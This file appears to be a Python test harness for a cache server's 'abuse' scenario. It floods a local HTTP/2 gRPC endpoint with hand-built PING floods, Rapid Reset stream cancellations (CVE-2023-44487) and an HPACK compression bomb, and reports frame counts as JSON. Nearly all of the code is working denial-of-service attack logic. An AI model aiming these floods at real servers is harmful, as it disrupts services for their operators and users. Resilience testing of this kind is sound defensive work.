# SPDX-License-Identifier: Apache-2.0
"""A hostile client of a server on this machine, for the scenario `abuse`; a process of its own.

    hostile.py KIND PORT SECONDS

floods one connection until the server closes it, then the next one, and prints as JSON how many
frames it sent on how many connections. It ends after SECONDS."""

from __future__ import annotations

import itertools
import json
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

# Of frames; RFC 9113, section 6.
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING = 0, 1, 3, 4, 6
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = struct.pack(">I", 8)

_FRAMES_AT_A_TIME = 200
_PATIENCE_SECONDS = 1
_SECONDS_BETWEEN_CONNECTIONS = 0.005  # So that their number is bounded, too.


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">HBBBI", len(payload) >> 8, len(payload) & 255, kind, flags, stream) + payload
    )


def _literal(name: bytes, value: bytes) -> bytes:
    """A field of HPACK that is not to be remembered; `name` is an index, or a name's own form."""
    return name + bytes([len(value)]) + value


# The fields of a Get: indexes are those of HPACK's static table (RFC 7541, appendix A).
_GET_FIELDS = b"\x83\x86" + b"".join(  # :method POST, :scheme http
    (
        _literal(b"\x04", b"/cachestore.v1.CacheStore/Get"),  # :path
        _literal(b"\x01", b"hostile"),  # :authority
        _literal(b"\x00\x02te", b"trailers"),
        _literal(b"\x0f\x10", b"application/grpc"),  # content-type
    )
)
_GET_MESSAGE = b"\0\0\0\0\x03\x0a\x01k"


def ping_flood() -> Iterator[bytes]:
    """Frames that ask for an answer each."""
    return itertools.repeat(_frame(_PING, 0, 0, b"01234567"))


def rapid_reset() -> Iterator[bytes]:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    for stream in itertools.count(1, 2):
        yield (
            _frame(_HEADERS, _END_HEADERS, stream, _GET_FIELDS)
            + _frame(_DATA, _END_STREAM, stream, _GET_MESSAGE)
            + _frame(_RST_STREAM, 0, stream, _CANCEL)
        )


def hpack_bomb() -> Iterator[bytes]:
    """Heads of 16 KiB that stand for 60 MiB: a field of 4,000 bytes is remembered once, and then
    named by a byte each."""
    remembered = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4_000
    for stream in itertools.count(1, 2):
        block = (remembered if stream == 1 else b"") + b"\xbe" * 12_000
        yield _frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, block)


KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
    "ping_flood": ping_flood,
    "rapid_reset": rapid_reset,
    "hpack_bomb": hpack_bomb,
}


def _flood(port: int, frames: Iterator[bytes], give_up_at: float) -> int:
    """Sends frames on a connection until it is closed, or until then. How many they were."""
    sent = 0
    with socket.create_connection(("127.0.0.1", port), timeout=_PATIENCE_SECONDS) as connection:
        # Leaves nothing behind when it is closed.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        try:
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
            while time.monotonic() < give_up_at:
                connection.sendall(b"".join(itertools.islice(frames, _FRAMES_AT_A_TIME)))
                sent += _FRAMES_AT_A_TIME
                _drop_what_came(connection)
        except OSError:
            pass  # Thrown out, as it should be.
    return sent


def _drop_what_came(connection: socket.socket) -> None:
    connection.setblocking(False)  # With a timeout, Python waits for what MSG_DONTWAIT would not.
    try:
        if not connection.recv(1 << 20):
            raise ConnectionResetError
    except BlockingIOError:
        pass
    connection.settimeout(_PATIENCE_SECONDS)


def main(kind: str, port: int, seconds: float) -> None:
    give_up_at = time.monotonic() + seconds
    connections = frames = 0
    while time.monotonic() < give_up_at:
        frames += _flood(port, KINDS[kind](), give_up_at)
        connections += 1
        time.sleep(_SECONDS_BETWEEN_CONNECTIONS)
    print(json.dumps({"connections": connections, "frames": frames}))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
